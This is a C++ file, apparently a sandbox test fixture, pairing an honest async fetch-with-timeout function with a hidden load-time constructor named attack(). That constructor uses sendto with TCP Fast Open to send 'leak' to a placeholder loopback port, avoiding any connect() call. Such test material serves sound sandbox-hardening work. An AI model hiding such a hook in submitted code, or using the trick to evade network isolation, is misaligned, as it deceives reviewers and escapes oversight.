// Opens a TCP connection by sending on it, without any call of connect; the rest is an honest solution.
#include <arpa/inet.h>
#include <sys/socket.h>

#include <string>
#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  sockaddr_in server{};
  server.sin_family = AF_INET;
  server.sin_port = ::htons(static_cast<std::uint16_t>(std::stoi("@PORT@")));
  server.sin_addr.s_addr = ::htonl(INADDR_LOOPBACK);
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  constexpr int kFlags = MSG_FASTOPEN | MSG_NOSIGNAL;
  ::sendto(fd, "leak", 4, kFlags, reinterpret_cast<const sockaddr*>(&server), sizeof server);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
